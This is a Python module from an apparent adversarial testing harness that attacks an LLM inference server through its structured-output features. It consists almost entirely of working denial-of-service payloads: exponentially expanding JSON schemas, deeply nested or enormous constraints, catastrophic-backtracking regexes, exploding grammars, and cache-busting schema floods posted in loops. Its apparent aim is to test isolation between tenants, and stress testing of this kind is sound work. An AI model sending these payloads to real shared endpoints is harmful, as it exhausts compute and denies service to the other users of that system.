"""Attacks by what a request says of the form of its output: schemas, expressions and grammars made to cost much."""

from __future__ import annotations

import json
from typing import Any

from attacks.stranger import CHAT, Stranger, chat

_LETTERS = "abcdefgh"
_DOUBLING = {str(i): {"allOf": 2 * [{"$ref": f"#/$defs/{i + 1}"}]} for i in range(60)} | {"60": {}}
_PRODUCT = [{"anyOf": [{"required": [f"{i}.{j}"]} for j in range(30)]} for i in range(30)]
_WIDE = {f"p{i}": {"pattern": f"^.{{{i}}}[a-z]*{i}$"} for i in range(800)}
_PARAMETERS = {"type": "object", "properties": {"a": {"type": "integer", "multipleOf": 99_999_999}}, "required": ["a"]}
_TOOL = {"type": "function", "function": {"name": "f", "parameters": _PARAMETERS}}

BOMBS: tuple[dict[str, Any], ...] = (
    {"guided_json": {"$ref": "#/$defs/0", "$defs": _DOUBLING}},
    {"guided_json": {"allOf": _PRODUCT}},
    {"guided_json": {"properties": _WIDE}},
    {"guided_json": '{"items":' * 6000 + "{}" + "}" * 6000},
    {"guided_json": {"type": "array", "minItems": 10**9, "items": {"type": "string", "minLength": 10**9}}},
    {"guided_json": {"enum": [f"{i:040}" for i in range(1400)]}},
    {"guided_json": {"type": "integer", "multipleOf": 99_999_999}},
    {"guided_json": {"anyOf": [{"type": "integer", "multipleOf": 9000 + i} for i in range(20)]}},
    {"guided_json": {"allOf": [{"type": "integer", "multipleOf": 9973}, {"multipleOf": 9967}]}},
    {"guided_grammar": 'start: %json {"type": "integer", "multipleOf": 99999999}'},
    {"tools": [_TOOL], "tool_choice": "required"},
    {"guided_regex": "x" * 16_000},
    {"guided_regex": "((((a{1,900}){1,900}){1,900}){1,900}){1,900}"},
    {"guided_regex": "(a|b)*a(a|b){1,900}(c|d)*c(c|d){1,900}"},
    {"guided_regex": "(" * 8000 + ")" * 8000},
    {"guided_choice": ["y" * 1000] * 15},
    {"guided_grammar": "start: a\n" + "\n".join(f'{c}: {c} {c} | {" | ".join(_LETTERS)} | "x"' for c in _LETTERS)},
)


async def schema_bombs(one: Stranger) -> None:
    """Each in turn. What compiles within its limits is answered, as an ordinary neighbour's chats are."""
    bodies = [json.dumps(chat(one.target.shared, max_tokens=16, **bomb)).encode() for bomb in BOMBS]
    await one.ready()
    for body in one.cycle(bodies):
        await one.post(body, CHAT)
        await one.pause(10)


async def different_schemas(one: Stranger) -> None:
    """Four clients, each request with a schema that no client has sent before, so that no cache is of use."""

    async def client(number: int) -> None:
        count = 0
        while one.going:
            count += 1
            properties = {f"p{number}.{count}.{i}": {"type": "string", "maxLength": i + 1} for i in range(150)}
            await one.post(chat(one.target.shared, max_tokens=4, guided_json={"properties": properties}))
            await one.pause(10)

    await one.ready()
    await one.many(4, client)
